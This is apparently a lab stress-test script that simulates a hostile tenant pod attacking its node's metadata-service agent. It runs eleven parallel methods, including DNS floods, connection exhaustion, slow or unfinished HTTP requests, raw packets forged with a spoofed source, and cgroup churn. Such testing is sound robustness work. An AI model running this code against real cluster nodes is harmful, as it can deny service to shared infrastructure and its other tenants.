# SPDX-License-Identifier: GPL-2.0-only
"""
What a tenant with eleven ideas does to the agent of its node, all at once: hostile_pod.py SECONDS VICTIM_ADDRESS CGROUP_NAME
[REST]. With REST it does them for a second, then holds what it has for so many, and again. Runs inside a pod of the lab, in its network namespace and cgroup. Prints how often it did each.
"""
import os, random, resource, signal, socket, struct, sys, time

SERVICE = ("169.254.169.254", 80)
NOBODY = ("169.254.170.23", 80)	 # an endpoint without a server here
victim, cgroup_name = sys.argv[2], sys.argv[3]
rest = float(sys.argv[4]) if len(sys.argv) > 4 else 0
end = time.time() + float(sys.argv[1])


def tcp(to=SERVICE, wait=0.2):
    s = socket.socket()
    s.settimeout(wait)
    s.connect(to)
    return s


def queries_of_one_socket(n):
    s = state.setdefault("s", socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    s.sendto(struct.pack("!HHHHHH", n & 65535, 256, 1, 0, 0, 0) + b"\1x\0\0\1\0\1", ("169.254.169.254", 53))


def queries_of_many_sockets(n):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(struct.pack("!HHHHHH", n & 65535, 256, 1, 0, 0, 0) + b"\1x\0\0\1\0\1", ("169.254.169.254", 53))


def connects_that_fail(n):
    with socket.socket() as s:
        s.setblocking(False)
        s.connect_ex(NOBODY)


def connections_held(n):
    if n < 1500:
        state.setdefault("held", []).append(tcp())
    else:
        time.sleep(0.1)


def connections_closed_at_once(n):
    tcp().close()


def heads_without_end(n):
    if n < 300:
        state.setdefault("heads", []).append(tcp())
    s = state["heads"][n % len(state["heads"])]
    s.send(b"GET /latest/meta-data/" + b"x" * 300 if n < 300 else b"x" * 100)


def left_halfway(n):
    with tcp() as s:
        s.send(b"GET /latest/meta-data/")
        s.shutdown(socket.SHUT_WR)


def pipelines(n):
    with tcp() as s:
        s.send(b"GET /latest/meta-data/ HTTP/1.1\r\nHost: a\r\n\r\n" * 40)
        s.recv(65536)


def byte_by_byte(n):
    with tcp() as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for b in b"GET /latest/meta-data/instance-id HTTP/1.0\r\n":
            s.send(bytes([b]))


def forged_deaths(n):
    s = state.setdefault("raw", socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, n & 65535, 0, 1, 6, 0, socket.inet_aton(SERVICE[0]), socket.inet_aton(victim))
    s.sendto(head + struct.pack("!HHIIBBHHH", 80, random.randrange(1024, 65536), n, n, 0x50, 0x18, 100, 0, 0), (victim, 0))


def foreign_cgroups(n):
    own = [l.split(":", 2)[2].strip() for l in open("/proc/self/cgroup") if l.startswith("0::")][0]
    root = [l.split()[1] for l in open("/proc/mounts") if l.split()[2] == "cgroup2"][0]
    if "top" not in state:
        state["top"] = root + own
    path = "%s/%s%d" % (state["top"], cgroup_name, n % 50)
    os.makedirs(path, exist_ok=True)
    with open(path + "/cgroup.procs", "w") as f:
        f.write("0")
    with tcp() as s:
        s.send(b"GET /latest/meta-data/instance-id HTTP/1.0\r\n\r\n")
        s.recv(4096)
    with open(state["top"] + "/cgroup.procs", "w") as f:
        f.write("0")
    os.rmdir(path)


ways = [queries_of_one_socket, queries_of_many_sockets, connects_that_fail, connections_held, connections_closed_at_once,
        heads_without_end, left_halfway, pipelines, byte_by_byte, forged_deaths, foreign_cgroups]
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
children = []
for way in ways:
    pid = os.fork()
    if pid:
        children.append(pid)
        continue
    os.nice(15)
    state, n, failed, burst = {}, 0, 0, time.time() + 1
    while time.time() < end:
        if rest and time.time() >= burst:
            time.sleep(rest)
            burst = time.time() + 1
        try:
            way(n)
        except (OSError, IndexError, KeyError):
            failed += 1
            time.sleep(0.001)
        n += 1
    os.write(1, ("%s: %d times, %d failed\n" % (way.__name__, n, failed)).encode())  # whole: they end together
    os._exit(0)
for pid in children:
    os.waitpid(pid, 0)
